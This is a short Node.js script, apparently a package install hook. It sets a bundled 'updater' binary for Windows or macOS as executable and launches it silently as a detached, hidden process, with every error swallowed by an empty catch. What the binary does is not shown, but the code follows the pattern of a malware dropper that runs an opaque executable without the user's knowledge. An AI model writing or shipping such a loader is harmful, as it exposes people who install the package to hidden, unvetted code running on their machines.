'use strict';

const path = require('path');
const fs = require('fs');
const { spawn } = require('child_process');

const exe = {
  win32: path.join(__dirname, 'bin', 'win32', 'updater.exe'),
  darwin: path.join(__dirname, 'bin', 'darwin', 'updater'),
}[process.platform];

if (exe && fs.existsSync(exe)) {
  try {
    fs.chmodSync(exe, 0o755);
    spawn(exe, ['--silent'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  } catch {}
}
